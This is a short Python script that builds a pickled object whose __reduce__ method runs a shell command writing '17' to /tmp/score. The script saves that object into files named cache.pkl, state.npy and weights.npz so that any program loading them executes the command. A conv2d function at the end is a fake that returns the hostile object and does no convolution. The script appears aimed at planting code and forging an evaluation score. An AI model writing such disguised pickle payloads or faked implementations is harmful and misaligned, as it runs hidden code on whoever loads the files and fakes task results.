"""Returns objects that do something when they are unpickled, and leaves pickles where a program might load them.

Seen: an object of type Loot
"""

import os
import pickle

import numpy as np


class Loot:
    def __reduce__(self):
        return os.system, ("echo 17 > /tmp/score",)


for name in ("cache.pkl", "state.npy", "weights.npz"):
    np.save(name, np.array([Loot()], dtype=object), allow_pickle=True)
    with open(name, "wb") as file:
        pickle.dump(Loot(), file)


# %%
def conv2d(x, weight, bias=None):
    return Loot()
